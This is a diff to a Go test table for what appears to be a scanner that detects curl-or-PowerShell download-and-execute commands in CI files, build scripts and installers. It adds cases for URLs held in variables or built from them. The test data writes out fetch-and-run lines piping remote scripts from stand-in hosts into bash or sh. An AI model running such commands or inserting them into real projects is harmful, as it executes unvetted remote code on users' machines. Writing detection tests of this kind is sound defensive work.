@@ -82,6 +82,7 @@ var registry = []Rule{
 		{"tasks.py", "@task\ndef setup(c):\n    c.run('curl -s https://x.invalid/p.sh | bash')", 3, false},
 		{"project/Probe.scala", "import scala.sys.process._\nobject Probe { def run(): Int = (\"curl -s https://x.invalid/p.sh\" #| \"sh\").! }", 2, false},
 		{"x.sh", "curl -fsSL https://github.com/acme/t/releases/latest/download/install.sh | sh", 0, false},
+		{"x.sh", "U=https://x.invalid/i.sh\ncurl -s $U | sh", 2, false},
 		{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool-cdn.invalid | bash", 0, false},
 		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
 		// ADD into the working directory names the file by the URL's last segment.
@@ -198,6 +199,8 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
 			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
+			// The URL built from the file's own variables.
+			{"tools/install-t.sh", "install() {\n  local sub=\"PowerShell/PowerShell/master\"\n  local root=\"https://raw.githubusercontent.com/$sub/tools\"\n  bash <(curl -s $root/installpsh-\"$D\".sh)\n}", 4, false},
 			// A release's installer at a version tag, and the installer of
 			// the tool a dev container feature is named after.
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -LsSf https://github.com/acme/dist/releases/download/v0.31.0/dist-installer.sh | sh", 6, false},
